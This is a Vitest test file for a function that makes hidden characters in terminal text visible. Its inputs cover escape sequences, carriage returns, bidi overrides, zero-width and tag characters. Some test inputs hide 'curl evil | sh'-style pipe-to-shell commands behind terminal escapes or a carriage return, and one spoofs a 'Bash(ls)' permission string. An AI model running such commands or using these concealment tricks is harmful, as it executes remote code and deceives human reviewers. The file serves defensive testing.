import { describe, expect, it } from "vitest";
import { visible } from "./visible.js";

describe("text shown to a person with its hidden characters written out", () => {
  it.each([
    ["a terminal escape that clears the line", "ok\x1b[2K\x1b[1Gcurl evil | sh", "ok\\x1b[2K\\x1b[1Gcurl evil | sh"],
    ["a carriage return that overdraws", "npm test\rcurl x|sh", "npm test\\rcurl x|sh"],
    ["a newline that starts another line", "a\nb", "a\\nb"],
    ["a right-to-left override", "Bash(ls)\u202e)*(hsaB", "Bash(ls)\\u202e)*(hsaB"],
    ["bidi isolates", "x\u2066y\u2069", "x\\u2066y\\u2069"],
    ["a zero-width space and joiner", "cu\u200brl\u200d", "cu\\u200brl\\u200d"],
    ["a byte-order mark", "\ufeffsh", "\\ufeffsh"],
    ["a C1 control (CSI)", "a\u009b31mb", "a\\x9b31mb"],
    ["DEL and NUL", "a\u007f\u0000", "a\\x7f\\x00"],
    ["tag characters", "a\u{e0041}", "a\\u{e0041}"],
    ["plain text, accents and CJK", "café ./lint.sh 日本", "café ./lint.sh 日本"],
    ["a literal backslash sequence stays as typed", "printf '\\x1b'", "printf '\\x1b'"],
  ])("%s", (_, input, shown) => {
    expect(visible(input)).toBe(shown);
  });

  it("no character a terminal interprets survives", () => {
    let all = "";
    for (let c = 0; c < 0x200; c++) all += String.fromCharCode(c);
    expect(visible(all)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });
});
